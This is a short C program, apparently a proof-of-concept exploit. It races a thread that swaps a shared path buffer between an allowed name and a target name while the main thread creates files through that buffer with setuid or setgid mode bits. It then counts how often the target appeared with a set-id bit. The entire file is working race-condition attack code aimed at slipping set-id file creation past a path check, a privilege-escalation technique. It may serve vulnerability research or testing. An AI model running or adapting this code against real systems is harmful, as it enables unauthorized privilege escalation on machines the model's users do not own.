/* A thread flips a path buffer between a new name where the helper creates (ALLOWED)
   and one where the tree's kernel may make names (TARGET) while the main thread
   creates through it with a set-id mode: ./suidflip ALLOWED TARGET N MODE (octal).
   Prints how many times TARGET came to exist with a set-id bit. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char path[256];
static char names[2][128];
static volatile int stop;

static void *flipper(void *arg) {
    (void)arg;
    unsigned long i = 0;
    while (!stop) {
        const char *n = names[i++ & 1];
        memcpy(path, n, strlen(n) + 1);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 5)
        return 2;
    snprintf(names[0], sizeof names[0], "%s", argv[1]);
    snprintf(names[1], sizeof names[1], "%s", argv[2]);
    memcpy(path, names[0], strlen(names[0]) + 1);
    int n = atoi(argv[3]), hits = 0;
    mode_t mode = (mode_t)strtoul(argv[4], NULL, 8);
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    struct stat st;
    for (int i = 0; i < n; i++) {
        int fd = open(path, O_CREAT | O_WRONLY, mode);
        if (fd >= 0)
            close(fd);
        unlink(names[0]);
        if (lstat(names[1], &st) == 0) {
            if (st.st_mode & 06000)
                hits++;
            unlink(names[1]);
        }
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("%d\n", hits);
    return 0;
}
